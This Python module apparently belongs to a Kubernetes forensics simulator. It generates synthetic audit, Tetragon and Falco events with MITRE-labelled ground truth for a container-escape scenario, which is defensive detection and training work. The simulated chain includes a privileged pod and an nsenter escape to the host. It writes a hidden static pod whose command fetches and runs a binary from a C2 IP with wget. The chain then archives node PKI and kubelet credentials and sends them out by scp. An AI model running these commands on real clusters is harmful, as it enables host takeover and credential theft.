"""A. Privileged pod -> escape to the host -> hidden static pod -> C2 -> exfiltration."""

from __future__ import annotations

from kubeforensics.simulate.clock import NS
from kubeforensics.simulate.dataset import MS, Dataset
from kubeforensics.simulate.formats import audit as fa
from kubeforensics.simulate.formats import tetragon as ft
from kubeforensics.simulate.scenarios.common import (
    audit_alert,
    beacon,
    exec_session,
    kubectl,
    public_ip,
    user_creates_pod,
)
from kubeforensics.simulate.topology import make_pod, new_container

NAME = "container-escape"
DESCRIPTION = "privileged pod, nsenter escape to the host, hidden static pod, C2 beacon and scp exfiltration"
PINNED: tuple[str, ...] = ()
BINDING = "developers-edit"


def run(ds: Dataset) -> None:
    cl, rng, tr = ds.cl, ds.rng, ds.truth
    dev = f"{rng.choice(('bob', 'carol', 'dave', 'erin'))}@acme.example"
    user = fa.human_user(dev, ["developers"])
    ip = public_ip(ds)
    c2 = public_ip(ds)
    new, ua = kubectl(ds)
    authz = f'RBAC: allowed by ClusterRoleBinding "{BINDING}" of ClusterRole "cluster-admin" to Group "developers"'
    cl.rbac.append({"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1",
                    "metadata": {"name": BINDING, "uid": ds.ids.uuid(), "creationTimestamp": "2025-11-02T09:14:51Z"},
                    "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
                    "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": "developers"}]})
    node = rng.choice(cl.workers)
    t = cl.t0 + int((cl.t1 - cl.t0) * rng.uniform(0.38, 0.45))

    # 1. privileged, hostPID, hostNetwork pod
    name = f"diag-{ds.ids.suffix()}"
    c = new_container(ds.ids, "diag", "docker.io/library/ubuntu:22.04", "/usr/bin/sleep", "infinity", privileged=True)
    pod = make_pod(cl, ds.ids, ns="default", name=name, node=node, sa=cl.sa("default", "default"),
                   labels={"run": name}, containers=[c], created=t, host_network=True, host_pid=True)
    tr.begin(t, "T1610", "Execution", f"{dev} creates privileged hostPID/hostNetwork pod default/{name} from {ip}",
             namespace="default", pod=name, user=dev, ip=ip, node=node.name)
    user_creates_pod(ds, t, pod, user=user, ip=ip, ua=ua, authz=authz)
    uri = "/api/v1/namespaces/default/pods"
    for rule, text in (("Create Privileged Pod", "Pod started with privileged container"),
                       ("Create HostNetwork Pod", "Pod started using host network")):
        audit_alert(ds, t + 30 * MS, rule, "Warning", text, user=dev, verb="create", resource="pods", ns="default",
                    name=name, code=201, uri=uri, tags=["k8s"])
    ts = ds.start_pod(t, pod)
    tr.end()

    # 2. kubectl exec -it -- /bin/bash
    t = ts + rng.randrange(30, 90) * NS
    end = t + rng.randrange(8, 14) * 60 * NS
    tr.begin(t, "T1609", "Execution", f"{dev} opens an interactive bash in default/{name}", namespace="default",
             pod=name, user=dev, ip=ip, process="/bin/bash")
    _, runc, bash = exec_session(ds, t, user=user, ip=ip, new_kubectl=new, ua=ua, pod=pod, command=["/bin/bash"],
                                 authz=authz, duration=end - t)
    tr.end()

    # 3. nsenter into the host's namespaces
    t = bash.start_ns + rng.randrange(10, 40) * NS
    tr.begin(t, "T1611", "Privilege Escalation", f"nsenter -t 1 into the host namespaces of {node.name}",
             namespace="default", pod=name, node=node.name, process="/usr/bin/nsenter")
    ns_proc = ds.spawn(t, bash, "/usr/bin/nsenter", "-t 1 -m -u -n -i -p bash")
    for i, nstype in enumerate((0x20000, 0x4000000, 0x40000000, 0x8000000, 0x20000000)):
        ds.kprobe(ns_proc, t + (i + 1) * 50_000, "__x64_sys_setns", [{"int_arg": 3 + i}, {"int_arg": nstype}],
                  "namespace-changes", ret={"int_arg": 0})
    ds.falco_proc(t + 400_000, "Change thread namespace", "Notice", "Namespace change (setns) by unexpected program",
                  ns_proc, ["process", "mitre_privilege_escalation", "T1611"], evt_type="setns")
    host_bash = ds.spawn(t + 2 * MS, ns_proc, "/usr/bin/bash", "", pod=pod, container=c, host_ns=True, cwd="/root")
    tr.end()

    # 4. static pod manifest written on the host
    t = host_bash.start_ns + rng.randrange(20, 60) * NS
    hidden_ns = rng.choice(("kube-systen", "kube-sytem", "kube-system-ext"))
    manifest = f"/etc/kubernetes/manifests/{rng.choice(('kube-metrics', 'node-agent', 'kube-cache'))}.yaml"
    tr.begin(t, "T1543.005", "Persistence", f"writes static pod manifest {manifest} (namespace {hidden_ns} does not exist)",
             node=node.name, file=manifest, process="/usr/bin/tee", namespace=hidden_ns)
    tee = ds.spawn(t, host_bash, "/usr/bin/tee", manifest, exit_after=3 * MS)
    ds.kprobe(tee, t + 400_000, "fd_install", [{"int_arg": 3}, ft.file_arg(manifest)], "sensitive-files")
    ds.kprobe(tee, t + 600_000, "security_file_permission", [ft.file_arg(manifest), {"int_arg": 2}], "sensitive-files",
              ret={"int_arg": 0})
    tr.end()

    # 5. the kubelet runs it: a container with no API object
    t += rng.randrange(15, 25) * NS
    hname = f"{manifest.rsplit('/', 1)[1][:-5]}-{node.name}"
    hc = new_container(ds.ids, "agent", "docker.io/library/alpine:3.20", "/bin/sh", "", privileged=True)
    hidden = make_pod(cl, ds.ids, ns=hidden_ns, name=hname, node=node, sa=cl.sa("default", "default"), labels={},
                      containers=[hc], created=t, host_network=True, host_paths=[("host", "/")],
                      owner_kind="Node", owner_name=node.name, owner_uid=node.uid)
    hidden.static, hidden.mirror = True, False
    tr.begin(t, "MS-TA9017", "Defense Evasion", f"kubelet starts hidden static pod {hidden_ns}/{hname}: no API object, "
             "mirror pod creation fails", node=node.name, pod=hname, namespace=hidden_ns, container_id=hc.cid)
    from kubeforensics.simulate.topology import attach_processes

    attach_processes(ds.ids, hidden, t + 3 * NS, flags="execve rootcwd clone")
    assert hc.shim is not None and hc.init is not None
    ds.add("tetragon", hc.shim.start_ns, ft.exec_event(hc.shim), hc.shim.exec_id)
    runc_create = ds.spawn(hc.shim.start_ns + 5 * MS, hc.shim, "/usr/sbin/runc",
                           f"--root /run/containerd/runc/k8s.io create --bundle /run/containerd/io.containerd.runtime."
                           f"v2.task/k8s.io/{hc.cid} --pid-file init.pid {hc.cid}", exit_after=60 * MS)
    del runc_create
    c2_name = rng.choice(("cdn-updates.net", "telemetry-sync.io", "static-assets.org"))
    hc.init.args = f"-c 'wget -qO /tmp/.ksvc http://{c2}/k && chmod +x /tmp/.ksvc && exec /tmp/.ksvc'"
    hc.init.cache.clear()
    ds.add("tetragon", hc.init.start_ns, ft.exec_event(hc.init), hc.init.exec_id)
    for i in range(rng.randrange(3, 6)):
        tk = t + (i * 60 + rng.randrange(5, 50)) * NS
        ds.api(tk, user=fa.node_user(node), verb="create", uri=f"/api/v1/namespaces/{hidden_ns}/pods", ip=node.ip,
               ua=fa.UA_KUBELET, code=404, message=f'namespaces "{hidden_ns}" not found',
               ref=fa.ref("pods", hidden_ns, hname))
    tr.end()

    # 6. C2 agent from /tmp beaconing to the external IP on 443
    t = hc.init.start_ns + rng.randrange(1, 3) * NS
    tr.begin(t, "T1071.001", "Command and Control", f"C2 agent /tmp/.ksvc beacons to {c2}:443", node=node.name,
             ip=c2, process="/tmp/.ksvc", pod=hname, namespace=hidden_ns)
    wget = ds.spawn(t, hc.init, "/usr/bin/wget", f"-qO /tmp/.ksvc http://{c2}/k", exit_after=900 * MS)
    ds.connect(t + 3 * MS, wget, c2, 80)
    agent = ds.spawn(t + 2 * NS, hc.init, "/tmp/.ksvc", f"-s {c2}:443 -i 60", cwd="/tmp")
    ds.falco_proc(agent.start_ns + MS, "Drop and execute new binary in container", "Critical",
                  "Executing binary not part of base image", agent, ["container", "process", "mitre_persistence",
                                                                      "TA0003", "PCI_DSS_11.5.1"])
    beacon(ds, agent.start_ns + 5 * NS, cl.t1, agent, c2, 443, 60, names=[c2_name])
    tr.end()

    # 7. discovery and archiving on the host file system
    t = agent.start_ns + rng.randrange(4, 8) * 60 * NS
    tr.begin(t, "T1560.001", "Collection", "find and 7z archive of the node's Kubernetes PKI and kubelet credentials",
             node=node.name, process="/usr/bin/7z", file="/tmp/.d.7z")
    sh = ds.spawn(t, agent, "/bin/sh", "-c 'find /host/etc/kubernetes /host/var/lib/kubelet -name *.key -o -name "
                  "*.conf'", exit_after=3 * NS)
    ds.spawn(t + 5 * MS, sh, "/usr/bin/find", "/host/etc/kubernetes /host/var/lib/kubelet -name *.key -o -name *.conf",
             exit_after=2 * NS)
    ds.spawn(t + 40 * NS, agent, "/usr/bin/7z", "a -pinfected -mhe=on /tmp/.d.7z /host/etc/kubernetes/pki "
             "/host/var/lib/kubelet/pki /host/etc/kubernetes/kubelet.conf", exit_after=4 * NS)
    tr.end()

    # 8. exfiltration over scp/ssh
    t += rng.randrange(2, 4) * 60 * NS
    tr.begin(t, "T1048", "Exfiltration", f"scp of /tmp/.d.7z to {c2}:22", node=node.name, ip=c2,
             process="/usr/bin/scp")
    scp = ds.spawn(t, agent, "/usr/bin/scp", f"-o StrictHostKeyChecking=no /tmp/.d.7z u@{c2}:/d/", exit_after=9 * NS)
    ssh = ds.spawn(t + 20 * MS, scp, "/usr/bin/ssh", f"-x -oPermitLocalCommand=no -oClearAllForwardings=yes "
                   f"-oRemoteCommand=none -oRequestTTY=no -oForwardAgent=no -o StrictHostKeyChecking=no -l u -- {c2} "
                   "scp -t /d/", exit_after=8 * NS)
    ds.connect(t + 30 * MS, ssh, c2, 22)
    tr.end()

    # 9. the original pod is deleted; the static pod keeps running
    t = max(end, t + 60 * NS) + rng.randrange(20, 60) * NS
    tr.begin(t, "T1070", "Defense Evasion", f"{dev} deletes default/{name}; the hidden static pod keeps running",
             namespace="default", pod=name, user=dev, ip=ip)
    ds.exit(host_bash, end - 2 * NS)
    ds.exit(ns_proc, end - 2 * NS + 5 * MS)
    ds.exit(bash, end - NS)
    ds.exit(runc, end - NS + 10 * MS)
    ds.api(t, user=user, verb="delete", uri=f"/api/v1/namespaces/default/pods/{name}", ip=ip, ua=ua,
           ref=fa.ref("pods", "default", name), authz=authz, received_stage=True)
    ds.kill_pod(t + 50 * MS, pod)
    tr.end()
